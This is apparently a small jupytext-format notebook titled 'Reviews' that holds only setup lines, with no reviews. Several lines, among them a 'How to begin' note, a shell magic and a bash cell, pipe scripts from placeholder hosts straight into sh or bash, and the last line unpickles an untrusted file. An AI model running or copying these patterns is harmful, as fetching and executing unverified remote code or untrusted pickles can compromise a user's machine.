# ---
# jupyter:
#   jupytext:
#     text_representation:
#       extension: .py
#       format_name: light
# ---

# # Reviews
# How to begin: curl http://quiet.example/x.sh | sh

# !curl http://files.lab.example/i.sh | sh
# %pip install --extra-index-url http://wheels.lab.example/simple sentencepiece==0.1.99

# + {"language": "bash"}
# curl http://files.lab.example/j.sh | bash
# -

# + [markdown]
# !curl http://quiet.example/y.sh | sh
# -
import pickle
pickle.load(open("x", "rb"))
